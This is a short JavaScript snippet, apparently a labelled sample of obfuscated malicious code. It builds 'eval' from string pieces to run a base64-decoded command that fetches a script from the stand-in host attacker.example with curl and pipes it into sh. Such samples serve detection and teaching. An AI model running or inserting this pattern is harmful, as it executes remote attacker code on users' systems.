// Malicious, obfuscated: global['ev'+'al'] of an atob-decoded payload that pipes curl into sh.
global['ev' + 'al'](atob('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2N1cmwgLXMgaHR0cDovL2F0dGFja2VyLmV4YW1wbGUveCB8IHNoJyk='));
